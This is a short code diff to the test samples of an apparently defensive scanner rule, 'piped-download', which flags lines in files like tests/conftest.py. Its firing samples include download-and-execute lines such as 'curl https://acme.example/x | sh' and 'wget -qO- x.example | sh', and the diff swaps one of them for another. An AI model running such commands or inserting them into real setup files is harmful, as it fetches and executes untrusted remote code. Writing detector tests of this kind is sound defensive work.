@@ -105,10 +105,7 @@ export const textSamples: readonly RuleSamples[] = [
   {
     rule: 'piped-download',
     file: 'tests/conftest.py',
-    fires: [
-      "exec(urllib.request.urlopen('https://acme.example/x').read()) ◀",
-      'os.system("wget -qO- x.example | sh") ◀',
-    ],
+    fires: ['SETUP = "curl https://acme.example/x | sh" ◀', 'os.system("wget -qO- x.example | sh") ◀'],
     silent: ['requests.get("https://acme.example/x")'],
   },
   {
